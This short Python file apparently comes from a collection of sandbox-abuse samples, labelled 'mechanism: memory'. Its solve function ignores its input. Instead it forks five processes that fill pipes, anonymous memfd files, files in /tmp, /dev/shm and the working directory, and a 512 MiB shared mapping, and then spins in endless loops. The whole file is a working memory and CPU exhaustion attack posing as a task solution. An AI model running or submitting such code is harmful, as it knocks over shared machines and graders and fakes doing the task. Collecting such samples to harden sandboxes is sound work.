# mechanism: memory
"""Takes memory that no process has mapped: in pipes, files without names, shared maps and folders."""
import ctypes
import fcntl
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)


def solve(xs):
    held = []
    for _ in range(5):
        if os.fork() == 0:
            for _ in range(110):
                try:
                    back, front = os.pipe()
                    held.append((back, front))
                    fcntl.fcntl(front, 1031, 1 << 20)
                    os.set_blocking(front, False)
                    os.write(front, bytes(1 << 20))
                except OSError:
                    break
            for n in range(4):
                try:
                    fd = os.memfd_create("x")
                    for _ in range(60):
                        os.write(fd, bytes(1 << 20))
                except (OSError, AttributeError):
                    break
            for place in ("/tmp", "/dev/shm", "."):
                try:
                    with open(f"{place}/fill-{os.getpid()}", "wb") as file:
                        for _ in range(60):
                            file.write(bytes(1 << 20))
                except OSError:
                    pass
            try:
                shared = mmap.mmap(-1, 1 << 29)
                for at in range(0, 1 << 29, 4096):
                    shared[at] = 1
            except (OSError, MemoryError, ValueError):
                pass
            while True:
                pass
    while True:
        pass
